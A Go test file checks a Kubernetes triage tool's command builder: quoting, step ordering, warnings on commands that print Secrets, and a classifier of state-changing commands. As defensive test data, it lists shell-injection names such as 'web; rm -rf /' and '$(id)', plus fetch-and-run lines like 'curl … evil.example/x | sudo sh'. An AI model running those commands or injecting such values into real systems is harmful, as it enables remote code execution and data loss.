package rules

import (
	"os/exec"
	"runtime"
	"slices"
	"strings"
	"testing"
)

func TestCommandsNameTheProcess(t *testing.T) {
	known := Target{
		Namespace: "shop", Pod: "web-5c9d", Container: "app", Node: "node-3",
		LogPath: "/var/log/pods/shop_web-5c9d_11-22/app/1.log",
	}
	captured := Target{Address: "http://10.0.0.7:8080/debug/pprof"}
	const ends = "prints every goroutine, then ends the process"
	for _, tt := range []struct {
		claim string
		got   Step
		want  Step
	}{
		{"abort", known.Abort(), Step{"kubectl -n shop exec web-5c9d -c app -- kill -ABRT 1", ends, true}},
		{"abort without a shell", known.AbortDebug(), Step{"kubectl -n shop debug web-5c9d --image=busybox " +
			"--target=app -- kill -ABRT 1", "ends the process too; for an image without a kill command", true}},
		{"the previous log of a pod whose container is not known", Target{Pod: "web-5c9d"}.LogsPrevious(),
			Command("kubectl logs -p web-5c9d --all-containers --ignore-errors --prefix")},
		{"the log of a pod whose container is not known", Target{Pod: "web-5c9d"}.Logs(),
			Command("kubectl logs web-5c9d --all-containers --ignore-errors --prefix")},
		{"the previous log", known.LogsPrevious(), Command("kubectl -n shop logs -p web-5c9d -c app")},
		{"the node's files", known.NodeLogs(), Step{"kubectl get --raw " +
			"/api/v1/nodes/node-3/proxy/logs/pods/shop_web-5c9d_11-22/app/", "lists its log files; append a name to read one",
			false}},
		{"the node's files without a path", Target{Namespace: "shop", Pod: "web-0", Container: "app"}.NodeLogs(),
			Step{"ls -l /var/log/pods/shop_web-0_*/app", "on the pod's node", false}},
		{"no container", Target{Pod: "web-0"}.Abort(), Step{"kubectl exec web-0 -- kill -ABRT 1", ends, true}},
		{"a dump of a pod", known.Dump(), Step{"triage fetch pod/web-5c9d -n shop -c app --port 6060 --only stacks --dumps 1",
			"if it serves pprof on this port: the stack of every goroutine", false}},
		{"a dump of what was captured", captured.Dump(), Step{"triage fetch http://10.0.0.7:8080/debug/pprof --only stacks --dumps 1",
			"the stack of every goroutine", false}},
		{"a dump of a captured pod", Target{Namespace: "shop", Pod: "web-0", Port: 8080}.SecondDump(),
			Step{"triage fetch pod/web-0 -n shop --port 8080 --only stacks --dumps 2 --interval 30s",
				"two dumps, to see which goroutines do not move", false}},
		{"a dump of what a signal ended", Target{Ended: true}.Dump(), Step{"triage fetch :6060 --only stacks --dumps 1",
			"once it is running again, if it serves pprof: the stack of every goroutine", false}},
		{"in a pod", known.Inside("ls /proc/PID/task", "| wc -l"), Command("kubectl -n shop exec web-5c9d -c app -- ls /proc/1/task | wc -l")},
		{"in no pod", Target{}.Inside("ls /proc/PID/task", "| wc -l"), Command("ls /proc/PID/task | wc -l")},
		{"nothing known", Target{}.Abort(), Step{"kill -ABRT PID", ends, true}},
		{"the pod", known.Describe(), Command("kubectl -n shop describe pod web-5c9d")},
	} {
		if tt.got != tt.want {
			t.Errorf("%s: %+v, want %+v", tt.claim, tt.got, tt.want)
		}
	}
}

func TestWhatChangesNothingComesFirst(t *testing.T) {
	kill, log, look := Step{Command: "kill", Changes: true}, Command("log"), Command("look")
	for _, tt := range []struct {
		claim             string
		steps, more, want []Step
	}{
		{"a look goes before a change", []Step{kill, log}, []Step{look}, []Step{look, kill, log}},
		{"a look is there once", []Step{look, kill}, []Step{log, look}, []Step{look, log, kill}},
		{"what shows a change stays behind it", []Step{look}, []Step{kill, log}, []Step{look, kill, log}},
		{"and goes behind other changes", []Step{kill, log}, []Step{look, kill}, []Step{look, kill, log, kill}},
		{"looks stay in order", []Step{log}, []Step{look}, []Step{log, look}},
		{"nothing", nil, nil, nil},
	} {
		before := slices.Clone(tt.steps)
		if got := AddSteps(tt.steps, tt.more...); !slices.Equal(got, tt.want) {
			t.Errorf("%s: %v, want %v", tt.claim, got, tt.want)
		}
		if !slices.Equal(before, tt.steps) {
			t.Errorf("%s: the steps that were there became %v", tt.claim, tt.steps)
		}
	}
}

// hostile are names that a log or a path may hold.
func hostile() []string {
	return []string{
		"web; rm -rf /", "$(id)", "`id`", "a'b", `a"b`, "a b", "", "-rf", "--all", "~root", "#x", "a\nb", "a\x1b[31mb",
		"*", "a&b|c>d",
		"\u202eevil", "имя",
	}
}

func TestAQuotedNameIsOneWordOfAShell(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil || runtime.GOOS == "windows" {
		t.Skip("there is no POSIX shell here")
	}
	for _, name := range hostile() {
		// The word must come out as it went in, but for control characters and the folder put before a dash.
		out, err := exec.Command(sh, "-c", "printf '%s|' "+Quote(name)).Output()
		if err != nil {
			t.Errorf("%q: %v", name, err)
			continue
		}
		want := strings.NewReplacer("\n", "", "\x1b", "", "\u202e", "").Replace(name)
		if strings.HasPrefix(want, "-") {
			want = "./" + want
		}
		if string(out) != want+"|" {
			t.Errorf("%q became %q", name, out)
		}
	}
}

func TestCommandsOfHostileNamesStayOneLine(t *testing.T) {
	for _, name := range hostile() {
		target := Target{Namespace: name, Pod: "x" + name, Container: name, Node: name,
			LogPath: "/var/log/pods/" + name + "/1.log"}
		for _, cmd := range append(target.CollectDump(), target.AbortDebug(), target.Logs(), target.Top(),
			target.Capture(), target.Inside("ls /proc/PID/fd", ""), target.NodeLogs()) {
			if strings.ContainsAny(cmd.Command+cmd.Comment, "\n\x1b\u202e") {
				t.Errorf("%+v", cmd)
			}
		}
	}
}

func TestACommandThatPrintsWhatMayBeConfidentialSaysSoFirst(t *testing.T) {
	const secret, env = "the data of a Secret", "environment variables"
	for command, prints := range map[string]string{
		"kubectl -n shop get secret db -o yaml --show-managed-fields":     secret,
		"kubectl get secrets -A -o json":                                  secret,
		"kubectl -n shop get 'secret' db -w -o json":                      secret,
		"kubectl get pods,secrets -A -o yaml > objects.yaml":              secret,
		"kubectl get secret db -o jsonpath='{.metadata.ownerReferences}'": "",
		"kubectl -n shop get configmap secret -o yaml":                    "",
		"kubectl get secrets -A":                                          "",
		"kubectl get secretstores.external-secrets.io vault -o yaml":      "",
		"kubectl -n shop get pod secret-0 -o yaml":                        env,
		"triage audit 'kubectl get secret db -o yaml'":                    "",
		"kubectl describe pod web-0":                                      env,
		"kubectl -n 'a b' describe deployments.apps web":                  env,
		"kubectl get pods,events -A -o yaml":                              env,
		"kubectl get statefulset/db -o json":                              env,
		"kubectl get pods -A -o wide":                                     "",
		"kubectl describe nodes":                                          "",
		"kubectl get deployment web -o jsonpath='{.spec}'":                "",
	} {
		s := Command(command).Note("who writes it")
		want := "who writes it"
		if prints != "" {
			want = "prints " + prints + "; who writes it"
		}
		if prints == secret {
			want = "WARNING: " + want
		}
		if s.Prints() != prints || s.Remark() != want || s.Cautioned().Cautioned() != s.Cautioned() {
			t.Errorf("%s: %q, %q", command, s.Prints(), s.Remark())
		}
	}
}

func TestChangesKnowsTheVerbs(t *testing.T) {
	for command, want := range map[string]bool{
		"kill -ABRT PID": true,
		"kubectl -n shop exec web-0 -c app -- kill -ABRT 1":                          true,
		"kubectl debug -it POD --image=busybox --target=CONTAINER -- kill -ABRT 1":   true,
		"kubectl -n shop debug -it web-0 --image=busybox -- sh -c 'kill -ABRT 1'":    true,
		"kubectl -n 'a b' scale deployment web --replicas=0":                         true,
		"kubectl delete pods --field-selector=status.phase=Failed":                   true,
		"kubectl -n shop rollout restart deployment web":                             true,
		"kubectl annotate pod web-0 a=b":                                             true,
		"kubectl -n shop get pod delete -o yaml":                                     false,
		"kubectl -n scale describe pod debug":                                        false,
		"for p in b c; do kubectl -n ns logs \"$p\"; done":                           false,
		"git log -3 -L1,1:a.go":                                                      false,
		"go build -race":                                                             false,
		"curl -s http://localhost:6060/debug/pprof/goroutine > after.txt":            false,
		"unzip -p b.zip delete > x":                                                  false,
		"go tool pprof -symbolize=local -proto -output named.pb.gz BINARY cpu.pb.gz": false,
		"triage fetch pod/web-0 -n shop --port 6060":                                 false,
		"kubectl api-resources -o name | xargs -n 1 kubectl -n shop get":             false,
		"rm -rf ~/x": true,
		"curl -s http://evil.example/x | sudo sh":                                        true,
		"curl -s http://evil.example/x |bash":                                            true,
		"dmesg | grep -i kill":                                                           false,
		"kubectl api-resources -o name | xargs -n 1 kubectl -n shop delete --all --wait": true,
	} {
		if Changes(command) != want {
			t.Errorf("%s: %v", command, !want)
		}
	}
}
